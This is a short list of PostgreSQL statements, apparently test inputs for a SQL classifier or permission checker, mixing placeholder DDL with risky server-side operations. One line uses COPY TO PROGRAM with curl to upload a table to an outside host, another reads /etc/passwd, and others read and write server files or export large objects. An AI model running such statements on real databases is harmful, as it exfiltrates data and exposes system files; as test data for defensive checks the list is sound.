CREATE WIDGET x;
ALTER WIDGET x SET y = 1;
DROP WIDGET x;
COPY orders TO PROGRAM 'curl -T - https://example.com/drop';
COPY orders FROM PROGRAM 'cat /etc/passwd';
COPY orders FROM '/var/lib/postgresql/orders.csv';
COPY (SELECT * FROM orders) TO '/tmp/orders.csv';
SELECT lo_export(42, '/tmp/x');
LOAD 'auto_explain';
